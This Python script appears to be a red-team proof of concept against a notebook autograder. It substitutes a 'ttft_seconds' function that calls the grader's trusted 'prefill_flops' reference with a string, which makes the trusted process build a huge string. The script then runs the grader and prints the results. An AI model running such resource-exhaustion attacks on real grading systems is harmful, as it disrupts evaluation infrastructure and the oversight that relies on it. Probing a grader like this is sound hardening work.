"""Lent-reference amplification: ttft_seconds calls the lent reference prefill_flops with a str argument.

The reference runs on the trusted side; 2 * n_params * prompt_len with n_params a short string and
prompt_len a big int makes the trusted process build a huge string (and send it back).
Usage: python3 attacks/lent_prefill_flops_string.py [REPEAT_BYTES]
"""
import sys, json
sys.path.insert(0, __file__.rsplit("/", 1)[0])
from _nb import *

size = int(sys.argv[1]) if len(sys.argv) > 1 else 500_000_000
src = f'''
def ttft_seconds(n_params, prompt_len, peak_flops, utilisation):
    try:
        prefill_flops("x", {size // 2})
    except BaseException as e:
        print("lent call:", type(e).__name__, str(e)[:200])
    return 2 * n_params * prompt_len / (peak_flops * utilisation)
'''
nb = replace(load("prefill"), "ttft_seconds", src)
path = write(nb, "/tmp/h5/lent_string/ttft.ipynb")
p, dt = run_watch(["grade", str(path), "--json"]); p.stdout = p.stdout_text; p.stderr = p.stderr_text
try:
    r = json.loads(p.stdout)
    print("score", r["score"], "/", r["max_score"], r["status"])
    for q in r["questions"]:
        if q["id"] in ("ttft_seconds", "prefill_flops"):
            print(" ", q["id"], q["score"], q["status"], q["feedback"][:2])
    print("errors", r["errors"][:3])
except Exception:
    print(p.stdout[-2000:], p.stderr[-2000:])
